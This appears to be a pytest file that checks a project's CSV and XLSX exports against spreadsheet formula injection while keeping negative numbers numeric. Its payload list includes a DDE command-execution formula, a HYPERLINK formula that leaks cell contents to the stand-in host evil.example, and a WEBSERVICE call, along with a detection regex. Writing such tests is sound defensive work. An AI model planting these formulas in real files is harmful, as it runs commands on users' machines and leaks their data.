"""Whatever way a table leaves the board, no text in it is a formula, and a negative number is still a number."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from pipelines.api import LogFilter, answer_file, export_log, open_board, run_query
from pipelines.domain.catalogue import Catalogue
from pipelines.domain.ledgers import Refusal, SheetRows
from pipelines.domain.words import Words
from pipelines.exports.enforcement import Filled, enforcement_form
from pipelines.exports.listing import listing_csv, listing_xlsx
from pipelines.jobs.build import build
from pipelines.jobs.people import Person
from pipelines.jobs.settings import Settings
from pipelines.jobs.show import as_csv
from pipelines.jobs.tokens import Grant, TokenDesk
from pipelines.ledgers.templates import marked_file, template_of
from tests.dashboards.test_downloads import sent

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "http://evil.example",
]
EACH = pytest.mark.parametrize("formula", FORMULAS)
MARKS = "=+-@＝＋－＠"


def prove_inert(content: bytes) -> None:
    """Raises where a file's cell would be computed, or would lead elsewhere."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                assert not re.search(rb"<f[\s>/]|<hyperlink|ddeLink|TargetMode", archive.read(name)), name
        return
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert is_number or cell.lstrip("\ufeff \t\r\n\u3000")[:1] not in [*MARKS], cell
            assert cell[:1] not in ("\t", "\r", "\n")


def holds(content: bytes, number: str) -> bool:
    """Whether a number stands in a file as one."""
    if not content.startswith(b"PK"):
        return any(number in row for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return f"<v>{number}</v>" in archive.read("xl/worksheets/sheet1.xml").decode()


@EACH
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_table_of_a_page(form: str, formula: str) -> None:
    table = {"title": formula, "columns": [formula, "数值"], "rows": [[formula, -5], [None, -0.25]], "note": formula}
    content = bytes(sent(form, json.dumps(table)).body)
    prove_inert(content)
    assert holds(content, "-5") and holds(content, "-0.25")


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_answer_of_a_query(built_root: Path, form: str) -> None:
    board = open_board()
    texts = ", ".join("'{}'".format(each.replace("'", "''")) for each in FORMULAS)
    select = f'select unnest([{texts}]) as "=1+1", -5 as number, -0.25::decimal(20,4) as part'
    answer = run_query(board, select)
    assert len(answer.rows) == len(FORMULAS)
    for asked in (select, f"=1+1 -- {select}"):
        content = answer_file(board, asked, answer, form, "zh")
        prove_inert(content)
        assert holds(content, "-5") and holds(content, "-0.25")


@pytest.fixture
def decided(root_like: Callable[..., Path]) -> None:
    settings = Settings(data=root_like("today", lambda root: build(Settings(data=root))))
    for formula in FORMULAS:
        TokenDesk(settings, Person()).issue(Grant(formula + "x", "viewer", None, date(2999, 12, 31)), why=formula)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_log_with_the_reasons_that_people_gave(decided: None, form: str) -> None:
    content = export_log(LogFilter(), "zh", form)
    prove_inert(content)
    if form == "csv":
        assert content.decode("utf-8-sig").count("SUM(A1)") >= 2  # they are all there


@EACH
def test_rows_of_show(formula: str) -> None:
    rows: list[dict[str, Any]] = [{"name": formula, "parts": [formula, "甲"], "value": -5, "share": -0.25}]
    content = as_csv(rows).encode()
    prove_inert(content)
    assert holds(content, "-5") and holds(content, "-0.25")


@EACH
def test_a_ledger_s_template(catalogue: Catalogue, formula: str) -> None:
    ledger = next(iter(catalogue.ledgers))
    column = replace(ledger.columns[0], name=Words(zh=formula, en=formula), example=formula, note=None)
    named = replace(ledger, columns=(column, *ledger.columns[1:]), purpose=Words(zh=formula, en=formula))
    prove_inert(template_of(named, "zh"))


@EACH
def test_a_ledger_with_its_refused_cells(formula: str) -> None:
    sheets = [SheetRows(formula, ((formula, "-5"), ("", formula)))]
    prove_inert(marked_file(sheets, [Refusal(formula, 2, "B", formula, formula, "date")], "zh"))


@EACH
def test_the_yearly_enforcement_data(catalogue: Catalogue, formula: str) -> None:
    prove_inert(enforcement_form(catalogue.form, Filled(formula, "subdistrict", 2025, {}, synthetic=True), "zh"))


@pytest.mark.parametrize("title", ["a" * 30 + "'b", "x\x00y", "\ud800", "'", "[]:*?/\\", ""])
@pytest.mark.parametrize("cell", ["\ud800", "\x00", float("nan"), float("-inf"), 10**400])
def test_what_no_sheet_can_hold_is_written_as_text_and_fails_nothing(title: str, cell: str | float) -> None:
    prove_inert(listing_xlsx(title, [title], [[cell]], title))
    prove_inert(listing_csv([title], [[cell]], title))


def test_a_sheet_whose_name_ends_in_an_apostrophe_where_it_is_cut_comes_back() -> None:
    assert marked_file([SheetRows("a" * 30 + "'b\n", (("甲",),))], [], "zh").startswith(b"PK")
